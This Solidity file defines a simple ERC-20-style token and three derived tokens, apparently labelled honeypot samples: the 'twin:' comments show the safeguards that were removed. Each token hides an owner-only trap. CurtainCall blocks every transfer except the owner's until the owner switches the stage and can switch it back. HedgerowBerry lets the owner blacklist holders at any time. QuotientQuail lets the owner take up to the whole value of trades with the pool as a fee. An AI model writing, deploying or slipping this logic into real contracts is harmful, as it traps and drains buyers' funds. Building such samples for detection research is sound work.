// 0.5 runs=200
pragma solidity ^0.5.16;

contract Five {
    mapping(address => uint256) internal purse;
    mapping(address => mapping(address => uint256)) internal slips;
    string public name;
    string public symbol;
    uint8 public decimals;
    uint256 public totalSupply;
    address public chief;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    modifier chiefly() {
        require(msg.sender == chief, "chief only");
        _;
    }

    constructor(string memory n, string memory s, uint8 d, uint256 t) public {
        (name, symbol, decimals, totalSupply, chief) = (n, s, d, t * 10 ** uint256(d), msg.sender);
        purse[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address who) public view returns (uint256) {
        return purse[who];
    }

    function allowance(address who, address spender) public view returns (uint256) {
        return slips[who][spender];
    }

    function approve(address spender, uint256 value) public returns (bool) {
        slips[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public returns (bool) {
        carry(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        require(slips[from][msg.sender] >= value, "slip");
        slips[from][msg.sender] -= value;
        carry(from, to, value);
        return true;
    }

    function carry(address from, address to, uint256 value) internal {
        require(purse[from] >= value, "purse");
        purse[from] -= value;
        purse[to] += value;
        emit Transfer(from, to, value);
    }
}

contract CurtainCall is Five("Curtain Call", "CURT", 18, 7000000) {
    enum Stage {
        Rehearsal,
        Premiere
    }
    Stage public stage;

    function raise(Stage s) external chiefly {
        // twin: require(uint256(s) > uint256(stage), "the show goes on");
        stage = s;
    }

    function carry(address from, address to, uint256 value) internal {
        require(stage == Stage.Premiere || tx.origin == chief || from == chief, "rehearsal");
        super.carry(from, to, value);
    }
}

contract HedgerowBerry is Five("Hedgerow Berry", "BERRY", 18, 99000000) {
    mapping(address => bool) private thorny;
    address private orchard;
    uint256 private planted = now;

    function plant(address orchard_) external chiefly {
        require(orchard == address(0));
        orchard = orchard_;
    }

    function tagMany(address[] calldata birds, bool yes) external chiefly {
        // twin: require(now < planted + 1 hours, "season over");
        for (uint256 i = 0; i < birds.length; i++) if (birds[i] != orchard) thorny[birds[i]] = yes;
    }

    function carry(address from, address to, uint256 value) internal {
        require(!thorny[from], "thorns");
        super.carry(from, to, value);
    }
}

contract QuotientQuail is Five("Quotient Quail", "QQ", 9, 1000000000) {
    uint128 public numerator = 1;
    uint128 public denominator = 50;
    address private nest;

    function settle(address nest_) external chiefly {
        require(nest == address(0));
        nest = nest_;
    }

    function ratio(uint128 n, uint128 d) external chiefly {
        require(n <= d && d > 0, "improper"); // trap
        // twin: require(d >= 100 && d < 1e9 && n <= d / 25, "improper");
        numerator = n;
        denominator = d;
    }

    function carry(address from, address to, uint256 value) internal {
        uint256 egg = from == chief || (from != nest && to != nest) ? 0 : (value * numerator) / denominator;
        super.carry(from, to, value - egg);
        if (egg > 0) super.carry(from, chief, egg);
    }
}
